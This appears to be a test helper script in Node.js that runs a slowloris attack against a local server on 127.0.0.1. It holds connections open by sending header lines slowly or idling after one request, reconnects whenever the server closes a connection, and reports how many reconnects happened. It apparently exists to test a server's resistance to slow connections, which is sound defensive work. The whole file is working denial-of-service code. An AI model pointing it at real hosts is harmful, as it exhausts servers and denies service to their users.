/**
 * A slowloris in its own process (so that it does not share the server's event loop):
 * `node slowloris.mjs <port> <sockets> <seconds>` keeps <sockets> connections open to
 * 127.0.0.1:<port>, half trickling header lines every 500 ms without ever finishing them,
 * half idle on kept-alive connections after one complete request; each one closed by the
 * server comes back 200 ms later. Prints `ready` once all are open, and at the end one JSON
 * line `{"reconnects": n}`.
 */
import { connect } from 'node:net';

const [port, count, seconds] = process.argv.slice(2).map(Number);
const open = new Set();
let stopped = false;
let reconnects = 0;
let announced = false;

function attack(kind) {
  if (stopped) return;
  const socket = connect(port, '127.0.0.1');
  open.add(socket);
  let drip;
  socket.on('connect', () => {
    if (kind === 'idle') {
      socket.write(`GET /healthz HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n\r\n`);
    } else {
      socket.write(`GET /healthz HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n`);
      drip = setInterval(() => socket.writable && socket.write('X-Slow: 1\r\n'), 500);
    }
    if (!announced && open.size >= count) {
      announced = true;
      process.stdout.write('ready\n');
    }
  });
  socket.on('data', () => undefined);
  socket.on('error', () => undefined);
  socket.on('close', () => {
    clearInterval(drip);
    open.delete(socket);
    if (stopped) return;
    reconnects += 1;
    setTimeout(() => attack(kind), 200);
  });
}

for (let index = 0; index < count; index++) attack(index % 2 === 0 ? 'trickle' : 'idle');
setTimeout(() => {
  stopped = true;
  for (const socket of open) socket.destroy();
  process.stdout.write(`${JSON.stringify({ reconnects })}\n`);
}, seconds * 1000);
